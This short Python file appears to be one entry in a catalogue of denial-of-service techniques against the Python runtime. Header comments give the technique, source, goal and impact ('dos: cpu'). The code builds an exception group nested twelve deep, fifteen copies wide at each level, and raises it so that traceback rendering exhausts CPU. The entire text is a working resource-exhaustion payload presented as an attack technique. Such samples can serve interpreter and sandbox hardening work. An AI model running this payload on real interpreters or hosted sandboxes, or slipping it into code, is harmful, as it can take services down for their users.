# technique: an exception group that holds another fifteen times, which holds another fifteen times: its traceback has as many lines as there are atoms in a grain of sand
# source: traceback.TracebackException prints every member of every group
# goal: the runtime's report outlives the limits
# impact: dos
# dos: cpu
error = ValueError('x')
for i in range(12):
    error = ExceptionGroup('group', [error] * 15)
raise error
